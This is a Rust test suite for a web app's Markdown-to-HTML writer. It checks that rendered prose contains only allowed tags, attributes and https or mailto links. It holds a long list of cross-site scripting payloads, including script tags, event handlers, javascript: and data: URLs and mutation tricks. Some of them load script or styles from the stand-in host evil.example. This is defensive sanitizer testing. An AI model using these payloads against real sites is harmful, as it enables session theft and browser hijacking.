//! No Markdown makes executable markup: payloads in many spellings, and random mixtures of them,
//! go through the writer, and what comes out is read tag by tag.
#![cfg(feature = "ssr")]
#![allow(clippy::unwrap_used)]

use app::parts::{Setting, prose_html};

const TAGS: &[&str] = &[
    "p",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "a",
    "br",
    "hr",
];

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import'//evil.example'</style>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "</textarea><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</div></main><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](http://evil.example)",
    "[x](https:javascript:alert(1))",
    "[x](https://good.example@evil.example/)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](https://evil.example/%22onmouseover=alert(1))",
    "[x](https://evil.example/ \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
    "[x](mailto:javascript:alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: https://a.example 'on\"click=alert(1)'",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![](https://a.example/x.png \"a\\\" onload=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "<https://a.example/<script>>",
    "<https://a.example/\"onclick=alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "www.evil.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` <script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~ \" onmouseover=\"alert(1)\n<img src=x onerror=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "> <script>\n> alert(1)</script>",
    "- <img src=x\n  onerror=alert(1)>",
    "# <svg onload=alert(1)> {#x onclick=alert(1)}",
    "| a | <script> |\n|---|---|\n| b | </script> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "*<b onclick=alert(1)>**x*</b>**",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "<\u{0}script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "\\<script\\>alert(1)\\</script\\>",
];

/// Reads HTML strictly: only known tags, only known attributes, balanced, and every other `<`, `>`,
/// `"` escaped.
fn check(html: &str, source: &str) {
    let mut open: Vec<&str> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let text = &rest[..at];
        assert!(!text.contains(['>', '"', '\'']), "stray mark in {html:?} from {source:?}");
        let end = at + rest[at..].find('>').unwrap();
        let tag = &rest[at + 1..end];
        rest = &rest[end + 1..];
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "unbalanced: {html:?} from {source:?}");
            continue;
        }
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(TAGS.contains(&name), "<{tag}> in {html:?} from {source:?}");
        check_attributes(name, attributes, source);
        if name != "br" && name != "hr" {
            open.push(name);
        }
    }
    assert!(open.is_empty() && !rest.contains(['>', '"', '\'']), "{html:?} from {source:?}");
}

fn check_attributes(name: &str, attributes: &str, source: &str) {
    match name {
        "a" => {
            let url = attributes.strip_prefix("href=\"").unwrap();
            let url = url.strip_suffix("\" rel=\"noopener noreferrer nofollow\"").unwrap();
            assert!(!url.contains(['"', '\'', '<', '>', ' ', '\n', '\t']), "{url:?} from {source:?}");
            let scheme = url.to_lowercase();
            assert!(scheme.starts_with("https://") || scheme.starts_with("mailto:"), "{url:?}");
        }
        "ol" if !attributes.is_empty() => {
            let number = attributes.strip_prefix("start=\"").unwrap().strip_suffix('"').unwrap();
            number.parse::<u64>().unwrap();
        }
        "pre" => assert_eq!(attributes, "tabindex=\"0\""),
        _ => assert_eq!(attributes, "", "<{name} {attributes}> from {source:?}"),
    }
}

const SETTINGS: [Setting; 2] = [Setting::Post, Setting::Book];

#[test]
fn no_payload_comes_out_as_markup() {
    for payload in PAYLOADS {
        let frames = [
            payload.to_string(),
            format!("a **{payload}** b"),
            format!("> - {payload}\n>\n>   {payload}"),
            format!("[{payload}](https://a.example)"),
            format!("[x](https://a.example/{payload})"),
            format!("# {payload}\n{payload}"),
            format!("`{payload}"),
        ];
        for source in frames {
            for setting in SETTINGS {
                check(&prose_html(&source, setting), &source);
            }
        }
    }
}

#[test]
fn no_mixture_of_payloads_and_marks_comes_out_as_markup() {
    const MARKS: &[&str] = &[
        "\n",
        "\n\n",
        " ",
        "*",
        "**",
        "_",
        "`",
        "```\n",
        "> ",
        "- ",
        "1. ",
        "# ",
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        "\"",
        "'",
        "&",
        ";",
        "\\",
        "\t",
        "    ",
        "---\n",
        "https://a.example/",
        "mailto:a@b.example",
        "한글",
    ];
    let mut state: u64 = 0x5DEE_CE66_D123_4567;
    let mut draw = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % below as u64) as usize
    };
    for _ in 0..4000 {
        let mut source = String::new();
        for _ in 0..draw(24) + 1 {
            source.push_str(if draw(3) == 0 {
                PAYLOADS[draw(PAYLOADS.len())]
            } else {
                MARKS[draw(MARKS.len())]
            });
        }
        check(&prose_html(&source, SETTINGS[draw(2)]), &source);
    }
}

#[test]
fn only_plain_https_and_mail_links_can_be_followed() {
    for (source, followed) in [
        ("[x](https://ohchr.org/en?a=1&b=2#c)", true),
        ("[x](HTTPS://ohchr.org)", true),
        ("https://ohchr.org/en", true),
        ("<https://ohchr.org/en>", true),
        ("[x](mailto:minji@ieum.example)", true),
        ("[x](http://ohchr.org)", false),
        ("www.ohchr.org", false),
        ("[x](/me)", false),
        ("[x](//ohchr.org)", false),
        ("[x](https:/ohchr.org)", false),
        ("[x](https://)", false),
        ("[x](https://ohchr.org@evil.example/)", false),
        ("[x](https://evil.example\\@ohchr.org/)", false),
        ("[x](javascript:alert(1))", false),
        ("[x](java&Tab;script:alert(1))", false),
        ("[x](data:text/html,x)", false),
        ("[x](mailto:)", false),
    ] {
        assert_eq!(prose_html(source, Setting::Post).contains("<a "), followed, "{source}");
    }
}

#[test]
fn images_and_html_become_what_was_typed() {
    let html = |source: &str| prose_html(source, Setting::Post);
    assert_eq!(html("![a face](https://a.example/x.png)"), "<p>a face</p>");
    assert_eq!(html("![](https://a.example/x.png)"), "<p>https://a.example/x.png</p>");
    assert_eq!(html("1 <b>2</b>"), "<p>1 &lt;b&gt;2&lt;/b&gt;</p>");
    assert_eq!(html("<div>\nx\n</div>"), "<p>&lt;div&gt;<br>x<br>&lt;/div&gt;</p>");
}

#[test]
fn a_text_keeps_its_form() {
    let source = "# One\n\nA *b* **c** `d`\ne\n\n### Two\n\n3. x\n4. y\n\n> q\n\n---\n\n    code <\n";
    assert_eq!(
        prose_html(source, Setting::Book),
        "<h2>One</h2><p>A <em>b</em> <strong>c</strong> <code>d</code>\ne</p><h3>Two</h3>\
         <ol start=\"3\"><li>x</li><li>y</li></ol><blockquote><p>q</p></blockquote><hr>\
         <pre tabindex=\"0\"><code>code &lt;\n</code></pre>"
    );
    assert_eq!(prose_html("## a\n\nb\nc", Setting::Post), "<h3>a</h3><p>b<br>c</p>");
    assert_eq!(prose_html("- a\n\n- b", Setting::Post), "<ul><li><p>a</p></li><li><p>b</p></li></ul>");
}

#[test]
fn no_text_is_too_deep_or_too_slow() {
    let begin = std::time::Instant::now();
    for mark in [
        "> ", ">", "*a ", "**a ", "_a ", "[", "![", "- ", "1. ", "<", "&#", "`a``", "*a_", "\\", "[a](",
        "   - ",
    ] {
        let source: String = mark.repeat(20_000 / mark.len());
        check(&prose_html(&source, Setting::Post), mark);
    }
    let stairs: String = (0..190).map(|depth| format!("{}- a\n", " ".repeat(depth))).collect();
    check(&prose_html(&stairs, Setting::Post), "stairs");
    let nested = format!("{}x{}", "*a **b ".repeat(1400), "** *".repeat(1400));
    check(&prose_html(&nested, Setting::Post), "nested");
    assert!(begin.elapsed().as_secs() < 20, "{:?}", begin.elapsed());
}

#[test]
fn html_is_put_into_a_page_in_two_files_only() {
    const HOLES: &[&str] = &["inner_html", "insert_adjacent_html", "outer_html", "<textarea", "<Title"];
    const GATES: &[&str] = &["parts/prose.rs", "parts/form.rs"];
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let (mut folders, mut read, mut guarded) = (vec![root.clone()], 0, 0);
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let name = path.strip_prefix(&root).unwrap().to_string_lossy().replace('\\', "/");
            let text = std::fs::read_to_string(&path).unwrap();
            let found: Vec<_> = HOLES.iter().filter(|hole| text.contains(**hole)).collect();
            if GATES.contains(&name.as_str()) {
                guarded += usize::from(!found.is_empty());
            } else {
                assert!(found.is_empty(), "{name} has {found:?}");
            }
            read += 1;
        }
    }
    assert!(read > 30 && guarded == GATES.len(), "{read} files, {guarded} gates");
}
